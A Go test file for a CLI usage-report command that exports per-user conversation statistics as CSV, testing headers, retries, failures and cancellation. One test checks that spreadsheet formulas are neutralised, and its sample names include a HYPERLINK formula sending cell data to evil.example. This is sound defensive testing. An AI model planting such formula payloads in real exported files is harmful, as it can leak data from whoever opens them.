package cli

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"talkio-gateway/talkio"
	"talkio-gateway/talkio/talkiotest"
)

// readReport parses the CSV on stdout and returns the header and the rows
// keyed by user id; a user id appearing twice fails the test.
func readReport(t *testing.T, h *harness) ([]string, map[string]map[string]string) {
	t.Helper()
	records, err := csv.NewReader(strings.NewReader(h.stdout.String())).ReadAll()
	if err != nil {
		t.Fatalf("CSV: %v\n%s", err, h.stdout.String())
	}
	if len(records) == 0 {
		t.Fatal("empty CSV")
	}
	header := records[0]
	rows := map[string]map[string]string{}
	for _, rec := range records[1:] {
		row := map[string]string{}
		for i, col := range header {
			row[col] = rec[i]
		}
		if _, dup := rows[row["user_id"]]; dup {
			t.Errorf("user %q has two rows", row["user_id"])
		}
		rows[row["user_id"]] = row
	}
	return header, rows
}

func TestUsageReport(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	h.seedBasic()
	// Enough users for several list pages of both kinds.
	for i := range 130 {
		h.addUser(talkiotest.User{ID: fmt.Sprintf("act%03d", i), CreatedAt: testNow.AddDate(0, -3, 0)})
	}
	for i := range 105 {
		at := testNow.Add(-time.Duration(i+1) * time.Hour)
		h.addUser(talkiotest.User{ID: fmt.Sprintf("exp%03d", i), ProductID: "school-plan", AccountExpiresAt: &at})
	}
	h.env.IsTerminal = true
	h.mustRun(ExitOK, "usage", "report", "--month", "2026-02", "--timezone", "Europe/Berlin", "--concurrency", "8")

	header, rows := readReport(t, h)
	wantHeader := []string{
		"user_id", "user_name", "user_type", "status", "email", "product_id", "expired_at", "month",
		"conversations", "conversation_minutes", "video_conversations", "video_minutes",
		"words_per_minute", "video_words_per_minute",
	}
	if !slices.Equal(header, wantHeader) {
		t.Errorf("header = %v, want %v", header, wantHeader)
	}
	active, expired := h.srv.Users(testOrg), h.srv.ExpiredUsers(testOrg)
	if len(rows) != len(active)+len(expired) {
		t.Errorf("%d rows, want %d active + %d expired", len(rows), len(active), len(expired))
	}
	for _, u := range active {
		if r := rows[u.ID]; r == nil || r["status"] != statusActive {
			t.Errorf("active user %s: row %v", u.ID, r)
		}
	}
	for _, u := range expired {
		r := rows[u.ID]
		if r == nil || r["status"] != statusExpired || r["expired_at"] != u.AccountExpiresAt.UTC().Format(time.RFC3339) {
			t.Errorf("expired user %s: row %v", u.ID, r)
		}
	}
	if r := rows["u2"]; r["user_name"] != "Grace Hopper" || r["user_type"] != "facilitator" || r["email"] != "grace@example.com" || r["month"] != "2026-02" {
		t.Errorf("u2 row = %v", r)
	}
	if r := rows["exp000"]; r["product_id"] != "school-plan" {
		t.Errorf("exp000 row = %v", r)
	}

	// The figures are those of the monthly stats endpoint.
	stats, err := h.env.Client.GetMonthlyStats(t.Context(), "act000", &talkio.MonthlyStatsOptions{Month: "2026-02", Timezone: "Europe/Berlin"})
	if err != nil {
		t.Fatal(err)
	}
	conv, video := conversationStats(stats)
	r := rows["act000"]
	if r["conversations"] != strconv.Itoa(conv.count) || r["conversation_minutes"] != minutes(conv.seconds) ||
		r["video_conversations"] != strconv.Itoa(video.count) || r["video_minutes"] != minutes(video.seconds) ||
		r["words_per_minute"] != decimal(conv.wpm) || r["video_words_per_minute"] != decimal(video.wpm) {
		t.Errorf("act000 row = %v, stats = %s", r, stats.Raw)
	}
	if conv.count == 0 {
		t.Logf("note: act000 had no conversations in 2026-02; figures compared as zeros")
	}
	// Every stats call asked for the month and time zone.
	if n := h.srv.CallCount(talkiotest.EndpointMonthlyStats); n != len(rows)+1 {
		t.Errorf("%d monthly stats calls, want %d", n, len(rows)+1)
	}
	if !strings.Contains(h.stderr.String(), fmt.Sprintf("usage report: %d/%d", len(rows), len(rows))) {
		t.Errorf("no progress on a terminal: %q", h.stderr.String())
	}
}

func TestUsageReportEmptyOrganization(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	h.mustRun(ExitOK, "usage", "report", "--month", "2026-02")
	header, rows := readReport(t, h)
	if len(header) != len(usageHeader) || len(rows) != 0 {
		t.Errorf("header %v, %d rows", header, len(rows))
	}
}

// TestUsageReportFailure: when any user's stats cannot be read the report is
// not written at all, because a partial report under-counts.
func TestUsageReportFailure(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	h.seedBasic()
	h.srv.Inject(talkiotest.EndpointMonthlyStats, talkiotest.Fault{Status: 500, FailFirst: 1})
	h.mustRun(ExitFailure, "usage", "report", "--month", "2026-02")
	if h.stdout.Len() != 0 {
		t.Errorf("stdout = %q, want no report", h.stdout.String())
	}
	if !strings.Contains(h.stderr.String(), "stats of 1 of 3 users could not be read") {
		t.Errorf("stderr = %q", h.stderr.String())
	}

	// Retryable faults are absorbed by the client.
	h.srv.Inject(talkiotest.EndpointMonthlyStats, talkiotest.Fault{Status: 503, FailFirst: 2})
	h.srv.Inject(talkiotest.EndpointListUsers, talkiotest.Fault{Status: 429, FailFirst: 1})
	h.mustRun(ExitOK, "usage", "report", "--month", "2026-02")

	h.srv.Inject(talkiotest.EndpointListUsers, talkiotest.Fault{Status: 500})
	h.mustRun(ExitFailure, "usage", "report", "--month", "2026-02")
	h.srv.Inject(talkiotest.EndpointListUsers, talkiotest.Fault{})
	h.srv.Inject(talkiotest.EndpointListExpiredUsers, talkiotest.Fault{Status: 500})
	h.mustRun(ExitFailure, "usage", "report", "--month", "2026-02")
}

// TestUsageReportUserGone: a user deleted between the listing and its stats
// call has no row and is named in a warning.
func TestUsageReportUserGone(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	h.seedBasic()
	h.srv.Inject(talkiotest.EndpointMonthlyStats, talkiotest.Fault{Status: 404, FailFirst: 1})
	h.mustRun(ExitOK, "usage", "report", "--month", "2026-02", "--concurrency", "1")
	_, rows := readReport(t, h)
	if len(rows) != 2 || !strings.Contains(h.stderr.String(), "warning: user ") {
		t.Errorf("%d rows, stderr %q", len(rows), h.stderr.String())
	}
}

func TestUsageReportCanceled(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	h.seedBasic()
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if code := h.runCtx(ctx, "usage", "report", "--month", "2026-02"); code != ExitFailure {
		t.Errorf("exit code %d, want 1", code)
	}
	if h.stdout.Len() != 0 {
		t.Errorf("stdout = %q", h.stdout.String())
	}
}

func TestConversationStatsTolerant(t *testing.T) {
	t.Parallel()
	var s talkio.Stats
	if err := json.Unmarshal([]byte(`{"month":"2026-02","conversations":{"count":"three","durationSeconds":1e999},"videoConversations":{"count":2,"durationSeconds":150,"user":{"wordsPerMinute":null}}}`), &s); err != nil {
		// 1e999 does not fit a float64; the decoder may refuse the whole body.
		if err := json.Unmarshal([]byte(`{"conversations":{"count":"three"},"videoConversations":{"count":2,"durationSeconds":150,"user":{"wordsPerMinute":null}}}`), &s); err != nil {
			t.Fatal(err)
		}
	}
	conv, video := conversationStats(&s)
	if conv.count != 0 || conv.seconds != 0 || video.count != 2 || video.seconds != 150 || video.wpm != 0 {
		t.Errorf("conv %+v, video %+v", conv, video)
	}
	if row := usageRow(userView{ID: "u"}, "2026-02", nil); row[8] != "0" || row[9] != "0.00" {
		t.Errorf("row without stats = %v", row)
	}
}

// Issue 11 A1: names, emails and ids that a spreadsheet would run as formulas are written as text, the
// value still readable after the leading quote.
func TestUsageReportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	h := newHarness(t)
	hostile := map[string]string{
		"f1": `=HYPERLINK("http://evil.example/?"&A1,"x")`,
		"f2": "+1+1",
		"f3": "@SUM(1+1)",
		"f4": "-2+3",
		"f5": "\t=1+1",
		"f6": "\r=1+1",
		"f7": "Plain Name",
	}
	for id, name := range hostile {
		h.addUser(talkiotest.User{ID: id, UserName: name, Email: "=" + id + "@example.com"})
	}
	h.addUser(talkiotest.User{ID: "@id", UserName: "Id Person"})
	h.mustRun(ExitOK, "usage", "report", "--month", "2026-02")
	_, rows := readReport(t, h)
	for id, name := range hostile {
		r := rows[id]
		want := name
		if id != "f7" {
			want = "'" + name
		}
		if r == nil || r["user_name"] != want || r["email"] != "'="+id+"@example.com" {
			t.Errorf("user %s: row %q, want user_name %q and a neutralised email", id, r, want)
		}
	}
	if r := rows["'@id"]; r == nil || r["user_name"] != "Id Person" {
		t.Errorf("an id starting with @ is not neutralised: rows %v", rows)
	}
	// No cell of the output, as a spreadsheet parses it, starts a formula.
	records, err := csv.NewReader(strings.NewReader(h.stdout.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range records {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a cell starts with %q: %q", cell[0], cell)
			}
		}
	}
}
